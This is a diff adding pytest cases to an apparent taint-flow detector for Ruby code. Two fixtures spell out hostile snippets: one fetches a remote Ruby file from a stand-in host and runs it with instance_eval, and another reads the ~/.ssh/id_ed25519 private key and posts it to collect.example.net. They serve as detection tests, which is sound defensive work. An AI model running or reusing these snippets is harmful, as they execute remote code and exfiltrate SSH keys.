@@ -187,3 +187,34 @@ def test_token_soup_never_trips_the_walk():
     for _ in range(400):
         source = rnd.choice([" ", "", "\n"]).join(rnd.choice(words) for _ in range(rnd.randint(1, 120)))
         assert isinstance(ruby._Pass(*ruby._tokens(source)).run(), list)
+
+
+# ---------------------------------------------------------------- a method's return value
+@pytest.mark.parametrize("script, expected", [
+    # the last line of a method is its value: a download, evaluated by the caller
+    ("require 'net/http'\n\ndef remote_rules(host)\n  uri = URI(\"https://#{host}/rules.rb\")\n"
+     "  body = Net::HTTP.get(uri)\n  body.force_encoding('UTF-8')\nend\n\nrules = remote_rules('cdn.example.net')\n"
+     "puts 'applying'\ninstance_eval(rules)\n", [("DX-04", 11, 5)]),
+    # an explicit return of a credential file's content, posted by the caller
+    ("require 'net/http'\n\ndef self.keyfile\n  path = File.expand_path('~/.ssh/id_ed25519')\n"
+     "  return File.read(path) if File.exist?(path)\n  ''\nend\n\n"
+     "Net::HTTP.post_form(URI('https://collect.example.net/k'), 'k' => keyfile)\n", [("EX-02", 9, 5)]),
+])
+def test_a_method_returning_a_download_or_a_secret_is_followed_to_its_caller(script, expected):
+    assert [(f.rule, f.line, f.source_line) for f in flows("ruby", script)] == expected
+
+
+def test_a_method_whose_download_reaches_no_sink_has_no_flow():
+    script = ("require 'net/http'\nrequire 'json'\n\ndef latest_version\n"
+              "  JSON.parse(Net::HTTP.get(URI('https://api.example.net/v')))['version']\nend\n\n"
+              "def helper\n  if ENV['CI']\n    'ci'\n  end\nend\n\nv = latest_version\nputs v\nsystem('bundle', 'install')\n"
+              "eval('1 + 1')\n")
+    assert flows("ruby", script) == []
+
+
+@pytest.mark.parametrize("unit", ["def m\n", "def m\n  return Net::HTTP.get(u)\n", "if a\n", "def m\n  x\nend\n"])
+def test_many_methods_and_returns_stay_fast(unit):
+    src = "require 'net/http'\neval(x)\n" + unit * (400_000 // len(unit))
+    start = time.perf_counter()
+    flows("ruby", src)
+    assert time.perf_counter() - start < 2.0
